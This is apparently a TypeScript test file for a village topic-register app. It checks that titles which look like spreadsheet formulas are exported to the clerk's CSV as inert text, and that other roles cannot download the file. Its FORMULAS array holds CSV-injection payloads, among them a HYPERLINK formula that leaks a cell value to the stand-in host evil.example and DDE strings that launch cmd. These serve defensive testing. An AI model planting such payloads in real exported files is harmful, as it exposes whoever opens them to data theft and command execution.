// CSV injection: a villager's topic title that starts like a spreadsheet formula reaches the
// clerk's topic register (议题台账) as text, never as a live formula or link; and the register is
// the village clerk's alone.
import { expect, sharedServerTest as test } from '../fixtures.ts';
import { PEOPLE, client, signedIn } from './hostile.ts';

const FORMULAS = [
	'=HYPERLINK("http://evil.example/?leak="&A1,"点此查看补贴")',
	'+cmd|" /C calc"!A0',
	'-2+3+cmd|" /C calc"!A0',
	'@SUM(1+1)*cmd|" /C calc"!A0'
];

/** The rows of a CSV written by csvCell: every cell quoted, quotes doubled, CRLF row ends. */
function parseCsv(text: string): string[][] {
	return text
		.split('\r\n')
		.filter(Boolean)
		.map((line) =>
			[...line.matchAll(/"((?:[^"]|"")*)"(?:,|$)/g)].map((match) => match[1].replaceAll('""', '"'))
		);
}

test('a title that starts like a formula reaches the register as text; only staff get it', async ({
	sharedApp: app
}) => {
	const villager = await signedIn(app, PEOPLE.villager);
	const numbers: string[] = [];
	for (const title of FORMULAS) {
		const filed = await villager.post('/xinyang/topics/new?/submit', {
			multipart: { title, description: '村民反映的问题', category: 'livelihood' },
			headers: { origin: app.url, accept: 'text/html' }
		});
		expect(filed.status(), title).toBe(303);
		numbers.push(/XY-\d{4}-\d{4}/.exec(filed.headers()['location']!)![0]);
	}

	const clerk = await signedIn(app, PEOPLE.clerk);
	const response = await clerk.get('/xinyang/topics/register.csv?q=cmd');
	expect(response.status()).toBe(200);
	expect(response.headers()['content-type']).toBe('text/csv; charset=utf-8');
	expect(response.headers()['content-disposition']).toMatch(/^attachment;/);
	const text = (await response.body()).toString('utf8');
	expect(text.startsWith('\uFEFF"编号","标题"')).toBe(true);
	const rows = parseCsv(text.slice(1));
	const byNumber = new Map(rows.slice(1).map((r) => [r[0], r]));
	for (const [i, title] of FORMULAS.entries()) {
		if (!title.includes('cmd')) continue;
		const row = byNumber.get(numbers[i]);
		expect(row?.[1], title).toBe(`'${title}`);
	}
	// The search filter applied: the HYPERLINK one has no "cmd" in it.
	expect(byNumber.has(numbers[0])).toBe(false);
	for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

	const all = parseCsv(
		(await (await clerk.get('/xinyang/topics/register.csv')).body()).toString('utf8').slice(1)
	);
	expect(all.find((r) => r[0] === numbers[0])?.[1]).toBe(`'${FORMULAS[0]}`);

	for (const who of [PEOPLE.villager, PEOPLE.gridHead, PEOPLE.rep, PEOPLE.supervisor]) {
		const api = await signedIn(app, who);
		const refused = await api.get('/xinyang/topics/register.csv');
		expect(refused.status(), who.phone).toBe(403);
		expect(await refused.text()).not.toContain('HYPERLINK');
		await api.dispose();
	}
	const anonymous = await client(app);
	const redirected = await anonymous.get('/xinyang/topics/register.csv');
	expect([303, 401, 403]).toContain(redirected.status());
	expect(await redirected.text()).not.toContain('HYPERLINK');
	await Promise.all([villager.dispose(), clerk.dispose(), anonymous.dispose()]);
});
